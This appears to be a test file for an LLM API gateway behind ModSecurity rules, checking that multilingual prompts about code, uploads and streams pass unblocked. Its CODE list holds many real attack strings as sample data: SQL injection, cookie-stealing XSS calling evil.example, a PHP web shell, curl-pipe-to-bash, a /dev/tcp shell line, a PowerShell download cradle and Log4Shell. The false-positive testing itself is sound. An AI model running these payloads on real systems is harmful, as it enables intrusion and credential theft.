"""What users of an LLM send is no attack: prompts about code, streams and uploads pass, and nothing holds them back."""

import itertools
import json
import os
import time
import unittest

import attacks
import wire

# The words around the code, in the languages that people ask in.
QUESTIONS = [
    "What does this do?", "Was macht das hier?", "¿Qué hace este código?", "Que fait ce code ?", "这段代码是做什么的？",
    "このコードは何をしますか？", "이 코드는 무엇을 합니까?", "Что делает этот код?", "ماذا يفعل هذا الكود؟", "यह कोड क्या करता है?",
]  # fmt: skip
CODE = [
    "SELECT * FROM users WHERE name = '' OR '1'='1' --",
    "SELECT a FROM t UNION ALL SELECT password FROM users; DROP TABLE users;",
    "INSERT INTO logs VALUES (SLEEP(5), BENCHMARK(1000000, MD5(1)))",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "<?php system($_GET['cmd']); eval(base64_decode($_POST['x'])); ?>",
    "cat /etc/passwd | grep root; rm -rf /tmp/x && curl http://a.example/x.sh | bash",
    "for f in $(ls ../../../etc); do echo `id` > /dev/tcp/10.0.0.1/4444; done",
    "powershell -enc SQBFAFgA; Invoke-Expression (New-Object Net.WebClient).DownloadString('http://a')",
    "${jndi:ldap://evil.example/a} java.lang.Runtime.getRuntime().exec('id')",
    "import os; os.system('cat /etc/shadow'); __import__('subprocess').call(['sh'])",
    "require('child_process').exec('ls'); constructor.__proto__.polluted = 1",
    "../../../../../../etc/passwd%00.jpg and C:\\Windows\\System32\\cmd.exe",
    "{{7*7}} #{7*7} <%= system('id') %>",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
]
# What programs really send beside a body.
SENDERS = [
    {"User-Agent": "OpenAI/Python 1.109.1", "X-Stainless-Lang": "python", "X-Stainless-Runtime": "CPython",
     "X-Stainless-Retry-Count": "0", "X-Stainless-OS": "Linux"},
    {"User-Agent": "OpenAI/JS 6.9.0", "X-Stainless-Lang": "js", "X-Stainless-Package-Version": "6.9.0"},
    {"User-Agent": "curl/8.14.1", "Accept": "*/*"},
    {"User-Agent": "python-requests/2.32.3", "Accept-Encoding": "gzip, deflate, br, zstd"},
    {"User-Agent": "Dart/3.9 (dart:io)"},
    {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 "
     "Safari/537.36", "Referer": "https://app.example.com/chat?id=42&tab=code", "Origin": "https://app.example.com",
     "Sec-CH-UA": '"Chromium";v="141", "Not?A_Brand";v="8"', "Cookie": "session=eyJhbGciOi.J9.x-_; theme=dark"},
    {"User-Agent": "langchain/1.0 (+https://python.langchain.com)", "X-Title": "My App (dev)", "HTTP-Referer": "https://a.example"},
    {},
]  # fmt: skip
KEY = {"Authorization": "Bearer dsl-1 or 1=1--;<script>", "Content-Type": "application/json"}


def prompts():
    """Questions about code in many languages, and every attack of the rule set as a question of its own."""
    for question, code in itertools.product(QUESTIONS, CODE):
        yield f"{question}\n```\n{code}\n```"
    found = {attacks.payload(target) for _, _, where, target, _ in CASES if where == "query"}
    yield from (f"{QUESTIONS[0]} {attack}" for attack in sorted(found) if attack)


CASES = list(attacks.cases(os.environ["CRS_TESTS"], "/usr/share/modsecurity-crs/rules"))


def noted():
    """How much of a body the gateway has."""
    try:
        with open("/tmp/noted") as file:
            return int(file.read() or 0)
    except FileNotFoundError:
        return 0


class Prompts(unittest.TestCase):
    def test_every_prompt_passes(self):
        all_of_them = list(prompts())
        self.assertGreaterEqual(len(all_of_them), 300)
        senders = itertools.cycle(SENDERS)
        stopped = []
        for prompt in all_of_them:
            body = json.dumps({"model": "deepseek-chat", "messages": [{"role": "user", "content": prompt}]}).encode()
            answer = wire.ask("POST", "/v1/chat/completions", {**KEY, **next(senders)}, body)
            if answer.status != 200 or json.loads(answer.body)["body"] != len(body):
                stopped.append(f"{answer.status} {prompt}")
        print(f"  {len(all_of_them) - len(stopped)} of {len(all_of_them)} prompts passed")
        self.assertEqual(stopped, [])

    def test_usual_paths_and_queries_pass(self):
        paths = [
            "/v1/models", "/v1/models/deepseek-ai/DeepSeek-V3.1-Base", "/v1/models/ft:gpt-4o-mini:org:name:7p4lURel",
            "/v1/files/file-abc123/content", "/v1/files?purpose=fine-tune&limit=20&order=desc&after=file-a",
            "/v1/responses/resp_67cb32528d6881909eb2859a55e18a85?include[]=reasoning.encrypted_content&stream=true",
            "/v1/vector_stores/vs_1/search", "/v1/threads/thread_1/messages?limit=5", "/api/deepseek/v1/chat",
            "/v1/fine_tuning/jobs?metadata[team]=ops", "/healthz",
        ]  # fmt: skip
        for path, sender in itertools.product(paths, SENDERS):
            answer = wire.ask(target=path, headers={**KEY, **sender})
            self.assertEqual(answer.status, 200, f"{path} {sender}")

    def test_other_methods_and_kinds_of_body_pass(self):
        for method, kind in [("POST", "audio/wav"), ("PUT", "application/octet-stream"), ("POST", "text/event-stream"),
                             ("PATCH", "application/json"), ("DELETE", "application/json"), ("POST", "image/png")]:  # fmt: skip
            answer = wire.ask(method, "/v1/x", {**KEY, "Content-Type": kind, "Content-Encoding": "gzip"}, b"' or 1=1 <script>")
            self.assertEqual((answer.status, json.loads(answer.body)["method"]), (200, method))

    def test_an_upload_passes_and_is_not_held_back(self):
        pieces, size = 20, 65536
        headers = {"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundaryx", "X-Note": "1"}
        with wire.connect() as connection:
            connection.sendall(wire.message("POST", "/v1/files", {**KEY, **headers, "Content-Length": str(pieces * size)}))
            connection.sendall(b"<script>" * (size // 8))
            # The gateway has the first piece although the others have not been sent.
            deadline = time.monotonic() + 60
            while noted() < size and time.monotonic() < deadline:
                time.sleep(0.05)
            self.assertGreaterEqual(noted(), size)
            for _ in range(pieces - 1):
                connection.sendall(b"x" * size)
            answer = wire.Answer(connection)
        self.assertEqual((answer.status, json.loads(answer.body)["body"]), (200, pieces * size))

    def test_a_stream_comes_as_it_is_made(self):
        with wire.connect() as connection:
            connection.sendall(wire.message("POST", "/stream?10", KEY, b'{"stream":true}'))
            arrived = b""
            # An event is sent when the one before has arrived, so one that is held back ends all.
            while b"[DONE]" not in arrived and (piece := connection.recv(65536)):
                arrived += piece
                with open("/tmp/seen", "w") as file:
                    file.write(str(arrived.count(b"data: ")))
        self.assertEqual(arrived.count(b"data: "), 11)


if __name__ == "__main__":
    unittest.main(verbosity=2)
